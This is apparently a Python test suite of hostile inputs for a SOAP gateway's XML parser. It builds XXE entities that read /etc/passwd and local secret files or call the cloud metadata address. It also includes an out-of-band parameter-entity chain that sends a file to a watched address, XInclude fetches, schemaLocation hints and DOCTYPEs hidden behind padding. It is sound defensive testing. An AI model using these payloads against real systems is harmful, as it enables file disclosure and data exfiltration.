"""XML external entities and everything else in XML that makes a parser fetch something."""

from __future__ import annotations

from collections.abc import Callable

from lxml import etree

from gateway.wire.blob import deflate
from gateway.wire.names import SOAP, WSSE
from tests.hostile.case import Case, cases
from tests.hostile.context import Context
from tests.hostile.forge import ask, draft, good, swap, xml
from tests.hostile.posts import blob_post, decision_post

XSI = "http://www.w3.org/2001/XMLSchema-instance"
XI = "http://www.w3.org/2001/XInclude"


def doctype(subset: str, use: str = "") -> Callable[[Context], bytes]:
    """A good message with a DOCTYPE before it, and a use of its entity in a signed name.

    `{file}` and `{http}` in the subset become a local file and an address, both of which are watched.
    """

    def make(ctx: Context) -> bytes:
        declared = subset.replace("{file}", ctx.secret.as_uri()).replace("{http}", f"{ctx.canary}/xxe")
        message = swap(good(ctx), "?>\n", f"?>\n{declared}")
        return swap(message, "ZorgSoft", use) if use else message

    return make


def prefixed(junk: str, subset: str = '<!DOCTYPE soap:Envelope SYSTEM "{http}">') -> Callable[[Context], bytes]:
    """A DOCTYPE that stands further from the start than a scan may look."""
    return doctype(junk + subset)


def in_payload(fragment: str) -> Callable[[Context], bytes]:
    """A truly signed question with a fetching element inside it."""

    def make(ctx: Context) -> bytes:
        payload = ask(ctx)
        payload.append(xml(fragment.replace("{file}", ctx.secret.as_uri()).replace("{http}", f"{ctx.canary}/include")))
        return good(ctx, payload)

    return make


def schema_hint(**attributes: str) -> Callable[[Context], bytes]:
    """A truly signed question that does not fit its schema, and says where another one is."""

    def make(ctx: Context) -> bytes:
        payload = ask(ctx)
        for name, value in attributes.items():
            payload.set(f"{{{XSI}}}{name}", value.replace("{file}", ctx.secret.as_uri()).replace("{http}", f"{ctx.canary}/x.xsd"))
        etree.SubElement(payload, "{urn:evil}Extra")
        return good(ctx, payload)

    return make


def hinted_header(ctx: Context) -> bytes:
    made = draft(ctx)
    made.envelope.set(f"{{{XSI}}}schemaLocation", f"{SOAP} {ctx.canary}/soap.xsd {WSSE} {ctx.canary}/wsse.xsd")
    etree.SubElement(made.payload, "{urn:evil}Extra")
    made.sign()
    return made.octets()


def in_blob(document: str, *, canonical: bool = True) -> Callable[[Context], bytes]:
    """A post whose blob is a fetching document, truly signed."""

    def make(ctx: Context) -> bytes:
        content = document.replace("{file}", ctx.secret.as_uri()).replace("{http}", f"{ctx.canary}/blob").encode()
        return blob_post(ctx, content, deflate(content), honest_content=b"<x/>" if canonical else content)

    return make


def in_decision(document: str) -> Callable[[Context], bytes]:
    """A zorgkas's post whose blob is a fetching document."""

    def make(ctx: Context) -> bytes:
        content = document.replace("{file}", ctx.secret.as_uri()).replace("{http}", f"{ctx.canary}/blob")
        return decision_post(ctx, content.encode())

    return make


_EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]><x>&e;</x>'
_CASES_DTD = cases(
    "XXE",
    ("xxe-file", "read a local file", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>', "&e;"), "WIRE-002"),
    ("xxe-passwd", "read /etc/passwd", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"), "WIRE-002"),
    ("xxe-bare-path", "a path without scheme", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "/etc/passwd">]>', "&e;"), "WIRE-002"),
    ("xxe-http", "call an address", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "{http}">]>', "&e;"), "WIRE-002"),
    ("xxe-public", "PUBLIC identifier", doctype('<!DOCTYPE x [<!ENTITY e PUBLIC "-//X//Y" "{http}">]>', "&e;"), "WIRE-002"),
    (
        "xxe-metadata",
        "call a cloud's metadata address",
        doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]>', "&e;"),
        "WIRE-002",
    ),
    ("xxe-ftp", "FTP", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "ftp://127.0.0.1/e">]>', "&e;"), "WIRE-002"),
    ("xxe-expect", "PHP's expect scheme", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "expect://id">]>', "&e;"), "WIRE-002"),
    ("xxe-data", "a data URL", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "data:text/plain,x">]>', "&e;"), "WIRE-002"),
    ("xxe-device", "an endless device", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///dev/zero">]>', "&e;"), "WIRE-002"),
    ("xxe-parameter", "parameter entity", doctype('<!DOCTYPE x [<!ENTITY % p SYSTEM "{http}"> %p;]>'), "WIRE-002"),
    (
        "xxe-out-of-band",
        "parameter entity that sends a file away",
        doctype(
            '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}"><!ENTITY % w "<!ENTITY &#x25; s SYSTEM \'{http}?%f;\'>"> %w; %s;]>'
        ),
        "WIRE-002",
    ),
    ("xxe-external-subset", "external DTD", doctype('<!DOCTYPE soap:Envelope SYSTEM "{http}">'), "WIRE-002"),
    ("xxe-external-subset-file", "external DTD in a file", doctype('<!DOCTYPE soap:Envelope SYSTEM "{file}">'), "WIRE-002"),
    ("xxe-unused", "declared, never used", doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>'), "WIRE-002"),
    ("xxe-internal", "an internal entity only", doctype('<!DOCTYPE x [<!ENTITY e "ZorgSoft">]>', "&e;"), "WIRE-002"),
    ("xxe-undeclared", "an entity nobody declared", doctype("", "&e;"), "WIRE-002"),
    ("xxe-empty-doctype", "a bare DOCTYPE", doctype("<!DOCTYPE soap:Envelope>"), "WIRE-002"),
    ("xxe-unparsed", "unparsed entity and notation", doctype('<!DOCTYPE x [<!NOTATION n SYSTEM "{http}"><!ENTITY e SYSTEM "{file}" NDATA n>]>'), "WIRE-002"),
    ("xxe-conditional", "conditional section", doctype('<!DOCTYPE x [<![INCLUDE[<!ENTITY e "x">]]>]>'), "WIRE-002 WIRE-001"),
    (
        "xxe-id-attribute",
        "a DTD that makes another attribute an ID",
        doctype("<!DOCTYPE soap:Envelope [<!ATTLIST Extra anders ID #IMPLIED>]>"),
        "WIRE-002",
    ),
    (
        "xxe-default-attribute",
        "a DTD that adds an attribute to a signed element",
        doctype('<!DOCTYPE soap:Envelope [<!ATTLIST RaadplegenRequest Extra CDATA "x">]>'),
        "WIRE-002",
    ),
    ("xxe-lower-case", "doctype in lower case", doctype('<!doctype x [<!ENTITY e SYSTEM "{file}">]>'), "WIRE-001 WIRE-002"),
    ("xxe-after-comment", "DOCTYPE behind a comment", prefixed("<!-- x -->"), "WIRE-002"),
    ("xxe-after-instruction", "DOCTYPE behind an instruction", prefixed("<?x y?>"), "WIRE-002"),
    ("xxe-far", "DOCTYPE behind 8 KB of comment", prefixed(f"<!--{'x' * 8000}-->"), "WIRE-002"),
    ("xxe-very-far", "DOCTYPE behind 2 MB of white space", prefixed(" " * 2_000_000), "WIRE-002"),
    ("xxe-fake-comment", "DOCTYPE behind a comment that quotes the root", prefixed("<!-- <soap:Envelope> -->"), "WIRE-002"),
    ("xxe-second", "two DOCTYPEs", doctype('<!DOCTYPE a><!DOCTYPE x SYSTEM "{http}">'), "WIRE-002"),
)  # fmt: skip
_CASES_AFTER = cases(
    "XXE",
    (
        "xxe-in-body",
        "DOCTYPE in the middle of the Body",
        lambda ctx: swap(good(ctx), "<soap:Body", "<!DOCTYPE x><soap:Body"),
        "WIRE-001 WIRE-002",
    ),
    (
        "xxe-after-root",
        "DOCTYPE after the Envelope",
        lambda ctx: good(ctx) + b'<!DOCTYPE x SYSTEM "http://127.0.0.1/">',
        "WIRE-001 WIRE-002",
    ),
    ("xxe-in-attribute", "entity in an attribute", lambda ctx: swap(good(ctx), "X509-", "&e;X509-"), "WIRE-002"),
)
_CASES_FETCH = cases(
    "XInclude",
    (
        "xinclude-file",
        "include a file as text",
        in_payload(f'<i:include xmlns:i="{XI}" href="{{file}}" parse="text"/>'),
        "SCHEMA-001",
    ),
    ("xinclude-http", "include an address", in_payload(f'<i:include xmlns:i="{XI}" href="{{http}}"/>'), "SCHEMA-001"),
    (
        "xinclude-fallback",
        "include with a fallback",
        in_payload(f'<i:include xmlns:i="{XI}" href="{{http}}"><i:fallback/></i:include>'),
        "SCHEMA-001",
    ),
)
_CASES_HINTS = cases(
    "schema location",
    ("hint-http", "schemaLocation at an address", schema_hint(schemaLocation="urn:evil {http}"), "SCHEMA-001"),
    ("hint-file", "schemaLocation at a file", schema_hint(schemaLocation="urn:evil {file}"), "SCHEMA-001"),
    ("hint-own", "schemaLocation for our own namespace", schema_hint(schemaLocation="urn:vsb-gateway:verzekerbaarheid:v1 {http}"), "SCHEMA-001"),
    ("hint-no-namespace", "noNamespaceSchemaLocation", schema_hint(noNamespaceSchemaLocation="{http}"), "SCHEMA-001"),
    ("hint-envelope", "schemaLocation on the Envelope", hinted_header, "SCHEMA-001"),
    ("hint-type", "xsi:type that no schema has", schema_hint(type="evil"), "SCHEMA-001"),
    ("hint-nil", "xsi:nil on the request", schema_hint(nil="true"), "SCHEMA-001"),
)  # fmt: skip
_CASES_BLOB = cases(
    "XXE",
    ("xxe-blob-file", "a file through the blob's XML", in_blob(_EXTERNAL), "WIRE-002"),
    ("xxe-blob-http", "an address through the blob's XML", in_blob('<!DOCTYPE x SYSTEM "{http}"><x/>'), "WIRE-002"),
    ("xxe-blob-parameter", "a parameter entity in the blob", in_blob('<!DOCTYPE x [<!ENTITY % p SYSTEM "{http}"> %p;]><x/>'), "WIRE-002"),
    service="facturatie",
) + cases(
    "XXE",
    ("xxe-decision-file", "a file through a zorgkas's blob", in_decision(_EXTERNAL), "WIRE-002"),
    ("xxe-decision-http", "an address through a zorgkas's blob", in_decision('<!DOCTYPE x SYSTEM "{http}"><x/>'), "WIRE-002"),
    service="zorgkas",
)  # fmt: skip

CASES: tuple[Case, ...] = _CASES_DTD + _CASES_AFTER + _CASES_BLOB + _CASES_FETCH + _CASES_HINTS
